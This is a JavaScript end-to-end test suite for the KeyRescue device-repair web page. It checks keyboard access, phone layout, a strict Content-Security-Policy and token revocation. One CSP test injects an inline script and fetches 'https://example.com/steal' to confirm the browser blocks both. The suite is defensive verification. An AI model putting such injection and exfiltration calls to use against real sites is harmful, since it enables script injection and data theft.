// End-to-end: the page is usable with the keyboard alone and on a 360 px phone screen, it carries a
// strict Content-Security-Policy that the browser enforces, and it talks to nobody but its own origin
// and the cloud. Screenshots: target/e2e/screenshots/4x-*.png.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { dist } from './harness.mjs';
import { KeyRescue, DEMO, sharedFixtures } from './keyrescue.mjs';

// A whole repair against a real loopback server; generous, and never a timing assertion.
const LONG = { timeout: 180_000 };

const fx = sharedFixtures();

test('keyboard only: sign in, connect, repair and verify with Tab, Enter and Space, the focus where the user is next after each step', LONG, async () => {
  const kr = await KeyRescue.open(fx.browser, fx.server, { name: '40-keyboard-only', api: fx.cloud.url });
  const keys = kr.page.keyboard;
  /** Waits until the element with `id` has the focus (it moves there once rendered). */
  const focusOn = (id) =>
    kr.page
      .waitForFunction((i) => document.activeElement?.id === i, id, { timeout: 60_000 })
      .catch(async () => assert.fail(`the focus is on ${await kr.page.evaluate(() => document.activeElement?.id || document.activeElement?.tagName)}, not #${id}`));
  await kr.visible('signin');

  await kr.tabTo('email');
  assert.ok(await kr.focusIsVisible(), 'the focused field shows a focus ring');
  await keys.type(DEMO.email);
  await kr.tabTo('password');
  await keys.type(DEMO.password);
  await kr.tabTo('signin-submit');
  assert.ok(await kr.focusIsVisible(), 'the focused button shows a focus ring');
  await kr.shot('sign-in-focused');
  await keys.press('Enter');
  await kr.expectSignedIn(DEMO.email);
  await focusOn('open-step'); // the Connect step's heading
  assert.match(await kr.page.evaluate(() => document.activeElement.textContent), /Connect/);
  await kr.shot('signed-in');

  await kr.tabTo('connect');
  assert.ok(await kr.focusIsVisible(), 'Connect shows a focus ring');
  await keys.press('Enter');
  await kr.waitForDiagnosis();
  await focusOn('open-step');
  assert.match(await kr.page.evaluate(() => document.activeElement.textContent), /Diagnose/);
  // Diagnose and Back up wait for the user: Continue, twice, from the keyboard.
  for (const step of ['Back up', 'Plan']) {
    await kr.tabTo('continue');
    await keys.press('Enter');
    await kr.waitForStep(step);
    await focusOn('open-step');
    assert.match(await kr.page.evaluate(() => document.activeElement.textContent), new RegExp(step));
  }
  await kr.waitForPlan();
  await kr.shot('plan');

  await kr.tabTo('repair');
  assert.ok(await kr.focusIsVisible(), 'Repair shows a focus ring');
  await kr.shot('repair-focused');
  await keys.press('Space');
  await kr.waitForOnline();
  await focusOn('open-step');
  assert.match(await kr.page.evaluate(() => document.activeElement.textContent), /Verify/);
  await kr.shot('online');

  // The next repair is one key press away.
  await kr.tabTo('repair-another');
  await kr.expectClean();
  await kr.close();
});

test('keyboard only: the LED decoder and the fault picker work without a mouse', LONG, async () => {
  const kr = await KeyRescue.open(fx.browser, fx.server, { name: '41-keyboard-controls', api: fx.cloud.url });
  await kr.tabTo('sim-fault');
  await kr.page.keyboard.press('ArrowDown');
  assert.equal(await kr.el('sim-fault').inputValue(), 'corrupt-key', 'ArrowDown picks the next simulated problem');
  await kr.shot('fault-picked');

  // The decoder is folded under Help: Tab to its summary and open it with Enter.
  await kr.visible('led-decoder');
  await kr.tabTo('led-decoder');
  await kr.page.keyboard.press('Enter');
  const colour = kr.el('led-decoder').getByLabel('Colour');
  const blinks = kr.el('led-decoder').getByLabel('Blinks');
  assert.equal(await colour.count(), 1, 'the decoder has a "Colour" input');
  assert.equal(await blinks.count(), 1, 'the decoder has a "Blinks" input');
  const before = await kr.text('led-verdict');
  const isFocused = (loc) => loc.evaluate((el) => el === document.activeElement);
  // Reach the Colour input with Tab and change it with an arrow key, then type a blink count.
  for (let i = 0; i < 80 && !(await isFocused(colour)); i++) await kr.page.keyboard.press('Tab');
  assert.ok(await isFocused(colour), 'Tab reaches the Colour input');
  await kr.page.keyboard.press('ArrowDown');
  for (let i = 0; i < 10 && !(await isFocused(blinks)); i++) await kr.page.keyboard.press('Tab');
  assert.ok(await isFocused(blinks), 'Tab goes on to the Blinks input');
  await kr.page.keyboard.press('Control+A');
  await kr.page.keyboard.type('2');
  await kr.page.waitForFunction(
    (b) => document.querySelector('[data-testid="led-verdict"]')?.textContent !== b,
    before,
    { timeout: 5_000 },
  ).catch(() => {});
  const after = await kr.text('led-verdict');
  assert.ok(after.trim(), 'the decoder gives a verdict');
  assert.notEqual(after, before, 'the verdict follows what was entered with the keyboard');
  await kr.shot('decoder');
  await kr.expectClean();
  await kr.close();
});

test('a 360 px wide phone screen: the whole repair fits without sideways scrolling', LONG, async () => {
  const kr = await KeyRescue.open(fx.browser, fx.server, {
    name: '42-narrow-360',
    api: fx.cloud.url,
    viewport: { width: 360, height: 740 },
  });
  // Every step is measured and the widths are asserted at the end, so one overflow does not hide the others.
  const overflow = {};
  const fits = async (step) => {
    overflow[step] = await kr.horizontalOverflow();
  };
  await fits('landing');
  await kr.shot('landing');
  await kr.signIn(DEMO);
  await kr.expectSignedIn(DEMO.email);
  await fits('signed in');
  await kr.connect();
  await kr.waitForDiagnosis();
  await kr.waitForPlan();
  await fits('plan');
  await kr.shot('plan');
  // Touch targets stay at least 44 px high on a phone.
  const small = await kr.page.evaluate(() =>
    [...document.querySelectorAll('button')]
      .filter((b) => b.offsetParent !== null && b.getBoundingClientRect().height < 44)
      .map((b) => b.textContent.trim()),
  );
  assert.deepEqual(small, [], 'every visible button is at least 44 px high');
  await kr.repair();
  await kr.waitForOnline();
  await fits('verified');
  await kr.shot('online');
  await kr.expectClean();
  await kr.close();
  const wider = Object.entries(overflow).filter(([, px]) => px > 0).map(([step, px]) => `${step}: ${px} px`);
  assert.deepEqual(wider, [], 'no step is wider than the 360 px screen');
});

test('the built page carries a strict Content-Security-Policy in a meta tag', LONG, async () => {
  const html = fs.readFileSync(path.join(dist, 'index.html'), 'utf8');
  const meta = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]+)"/);
  assert.ok(meta, 'index.html has a CSP meta tag');
  const csp = Object.fromEntries(
    meta[1].split(';').map((d) => d.trim().split(/\s+/)).map(([name, ...values]) => [name, values]),
  );
  assert.deepEqual(csp['default-src'], ["'none'"]);
  assert.ok(csp['script-src'].includes("'self'") && csp['script-src'].includes("'wasm-unsafe-eval'"));
  assert.ok(!meta[1].includes("'unsafe-inline'") && !meta[1].includes("'unsafe-eval'"), 'no unsafe-inline or unsafe-eval');
  assert.deepEqual(csp['style-src'], ["'self'"]);
  assert.deepEqual(csp['base-uri'], ["'none'"]);
  assert.deepEqual(csp['form-action'], ["'none'"]);
  assert.ok(csp['connect-src'].includes('https://api.particle.io'));
  assert.ok(csp['connect-src'].every((s) => ["'self'", 'https://api.particle.io', 'http://127.0.0.1:*', 'http://localhost:*'].includes(s)), `connect-src ${csp['connect-src']}`);
  // The page starts from its own boot module (scripts/build-page): no inline script at all, so
  // script-src allows nothing but the page's own files and the compilation of its WebAssembly.
  const scripts = [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)];
  assert.deepEqual(scripts.filter((m) => !/\bsrc=/.test(m[1])).map((m) => m[2]), [], 'no inline script');
  assert.ok(scripts.some((m) => /type="module"/.test(m[1]) && /src="\/boot-[0-9a-f]{16}\.js"/.test(m[1])), 'the boot module is a file');
  assert.deepEqual(csp['script-src'], ["'self'", "'wasm-unsafe-eval'"]);
  assert.doesNotMatch(html, /\son[a-z]+=/i, 'no inline event handlers');
});

test('the browser enforces the policy: injected inline code and requests to other hosts are blocked', LONG, async () => {
  const kr = await KeyRescue.open(fx.browser, fx.server, { name: '43-csp-enforced', api: fx.cloud.url });
  await kr.visible('connect');
  const csp = await kr.page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
  assert.match(csp, /default-src 'none'/);
  await kr.expectClean(); // the app itself runs without a single violation

  const outcome = await kr.page.evaluate(async () => {
    window.__injected = false;
    const s = document.createElement('script');
    s.textContent = 'window.__injected = true';
    document.body.append(s);
    let fetched;
    try {
      await fetch('https://example.com/steal');
      fetched = 'sent';
    } catch {
      fetched = 'blocked';
    }
    await new Promise((r) => setTimeout(r, 100));
    return { injected: window.__injected, fetched };
  });
  assert.equal(outcome.injected, false, 'an injected inline script does not run');
  assert.equal(outcome.fetched, 'blocked', 'a request to another host is blocked');
  const violations = await kr.cspViolations();
  assert.ok(violations.some((v) => v.startsWith('script-src')), `script violation reported: ${violations}`);
  assert.ok(violations.some((v) => v.startsWith('connect-src') && v.includes('example.com')), `connect violation reported: ${violations}`);
  await kr.close();
});

test('the page requests nothing from any host but its own origin and the loopback cloud', LONG, async () => {
  const kr = await KeyRescue.open(fx.browser, fx.server, { name: '44-own-origin-only', api: fx.cloud.url });
  await kr.signIn(DEMO);
  await kr.expectSignedIn(DEMO.email);
  await kr.connect();
  await kr.waitForPlan();
  await kr.shot('plan');
  assert.ok(kr.requests.some((u) => u.startsWith(fx.cloud.url)), 'the cloud was asked');
  assert.deepEqual(kr.foreignRequests([fx.cloud.url]), []);
  // Opened plainly (no ?sim=, no ?api=), the page would use Particle's cloud: no test-cloud banner.
  const prod = await KeyRescue.open(fx.browser, fx.server, { name: '45-production-cloud', sim: null });
  await prod.visible('connect');
  assert.equal(await prod.el('test-cloud-banner').count(), 0, 'no test-cloud banner for Particle\'s cloud');
  assert.deepEqual(prod.foreignRequests(), [], 'nothing is requested before the user acts');
  await prod.shot('landing');
  await prod.expectClean();
  await prod.close();
  await kr.expectClean();
  await kr.close();
});

test('a remembered token is forgotten and revoked at Particle after the simulated mode', LONG, async () => {
  // Particle's API is played by a page.route on api.particle.io: a sign-in answers TOKEN, and the
  // revoke (DELETE /v1/access_tokens/current) is recorded.
  const TOKEN = 'feedfacefeedfacefeedfacefeedfacefeedface';
  const revokes = [];
  const cors = {
    'Access-Control-Allow-Origin': '*',
    'Access-Control-Allow-Headers': 'Authorization, Content-Type',
    'Access-Control-Allow-Methods': 'GET, POST, PUT, DELETE',
  };
  const json = (status, body) => ({ status, headers: { ...cors, 'Content-Type': 'application/json' }, body: JSON.stringify(body) });
  const setup = (page) =>
    page.route('https://api.particle.io/**', (route) => {
      const req = route.request();
      const { pathname } = new URL(req.url());
      if (req.method() === 'OPTIONS') return route.fulfill({ status: 204, headers: cors });
      if (req.method() === 'POST' && pathname === '/oauth/token') {
        return route.fulfill(json(200, { token_type: 'bearer', access_token: TOKEN, expires_in: 7776000 }));
      }
      if (req.method() === 'DELETE' && pathname === '/v1/access_tokens/current') {
        revokes.push(req.headers().authorization);
        return route.fulfill(json(200, { ok: true }));
      }
      return route.fulfill(json(404, { ok: false, error: 'not in this test' }));
    });
  const kr = await KeyRescue.open(fx.browser, fx.server, { name: '47-signout-after-sim', sim: null, contextOptions: { setup } });
  const tokenKeys = () =>
    kr.page.evaluate(() => Object.keys(localStorage).filter((k) => k.startsWith('key-rescue-token')));
  await kr.visible('signin');
  await kr.el('remember-token').check();
  await kr.signIn(DEMO);
  await kr.expectSignedIn(DEMO.email);
  assert.equal(await kr.page.evaluate(() => localStorage.getItem('key-rescue-token')), TOKEN, 'remembered');
  // The simulated Photon switches the page to the in-page simulated cloud; the sign-in stays.
  await kr.el('try-simulated').click();
  await kr.waitForSimReady();
  await kr.expectSignedIn(DEMO.email);
  await kr.shot('simulated-and-signed-in');
  await kr.signOut();
  await kr.page.waitForFunction(() => !localStorage.getItem('key-rescue-token'), null, { timeout: 15_000 });
  assert.deepEqual(await tokenKeys(), [], 'no token is left in localStorage');
  for (let i = 0; i < 100 && revokes.length === 0; i += 1) await new Promise((r) => setTimeout(r, 100));
  assert.deepEqual(revokes, [`Bearer ${TOKEN}`], 'the revoke reached Particle, once');
  // After a reload the page is signed out.
  await kr.page.reload();
  await kr.visible('signin');
  assert.equal(await kr.el('signed-in').count(), 0, 'not signed in after the reload');
  await kr.shot('reloaded-signed-out');
  await kr.expectClean();
  await kr.close();
});
